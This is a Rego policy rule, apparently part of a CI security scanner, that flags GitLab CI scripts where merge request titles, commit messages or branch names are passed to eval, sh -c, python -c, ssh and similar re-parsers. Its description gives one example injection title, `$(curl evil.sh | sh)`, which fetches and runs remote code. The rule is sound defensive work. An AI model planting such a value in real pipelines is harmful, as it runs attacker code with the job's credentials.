# METADATA
# title: Text a stranger writes is run as code by a script
# description: >-
#   A runner hands each script line to the shell, which expands `$CI_MERGE_REQUEST_TITLE` into
#   a plain argument: `echo "$CI_MERGE_REQUEST_TITLE"` is safe. The text becomes code when the
#   line gives it to something that parses it again (`eval`, `sh -c "…"`, `python -c`,
#   `node -e`, `ruby -e`, `perl -e`, `php -r`, PowerShell `-Command`, or `ssh host "…"`, whose
#   remote shell parses the command): a title such as `$(curl evil.sh | sh)` then runs with the
#   job's variables and token. Merge request titles, descriptions and branch names are written
#   by whoever opens the merge request (HIGH); commit messages, authors and branch or tag names
#   by whoever pushes them (MEDIUM). A reference in single quotes is not expanded by the outer
#   shell and is not reported.
# scope: package
# related_resources:
#   - https://docs.gitlab.com/ci/variables/predefined_variables/
#   - https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#use-with-forked-projects
# custom:
#   id: GITLAB-001
#   severity: HIGH
#   recommended_action: "Let the inner program read the variable itself: `sh -c 'echo \"$CI_MERGE_REQUEST_TITLE\"'`, `python -c 'import os; print(os.environ[\"CI_COMMIT_MESSAGE\"])'`, or pass it as an argument after the code."
#   input:
#     selector:
#       - type: gitlab_ci
#   frameworks:
#     nist-800-53-r5: ["SI-10"]
#     soc2: ["CC8.1"]
package rampart.gitlab.script_injection

import rego.v1

import data.rampart.lib.gitlab

deny contains {"msg": msg, "path": ["references", k], "severity": who[1]} if {
	some k, r in input.references
	who := gitlab.attacker_variables[r.name]
	r.quote != "'"
	parsers := {name |
		some name, pattern in reparsers
		regex.match(sprintf(`(?:^|[\s;&|(])%s\s.*\$\{?%s\b`, [pattern, r.name]), r.command)
	}
	count(parsers) > 0
	msg := sprintf(
		"%s: $%s (%s) is expanded into `%s`, which runs it as code; let the program read it from the environment instead",
		[gitlab.at(r), r.name, who[0], min(parsers)],
	)
}

# Commands that parse their argument as code, by how they are written.
reparsers := {
	"eval": `eval`,
	"sh -c": `(?:ba|da|k|z)?sh(?:\s+-[a-zA-Z]+)*\s+-[a-zA-Z]*c`,
	"python -c": `python[0-9.]*(?:\s+-[a-zA-Z]+)*\s+-c`,
	"node -e": `node(?:js)?(?:\s+-[-a-zA-Z]+)*\s+(?:-e|-p|--eval|--print)`,
	"ruby -e": `ruby(?:\s+-[a-zA-Z]+)*\s+-[a-zA-Z]*e`,
	"perl -e": `perl(?:\s+-[a-zA-Z]+)*\s+-[a-zA-Z]*[eE]`,
	"php -r": `php(?:\s+-[a-zA-Z]+)*\s+-r`,
	"PowerShell -Command": `(?i:pwsh|powershell)(?:\.exe)?(?:\s+-[a-zA-Z]+)*\s+-(?i:c|command)`,
	"ssh": `ssh(?:\s+-[a-zA-Z]+(?:\s+[^-\s]\S*)?)*\s+\S+`,
}
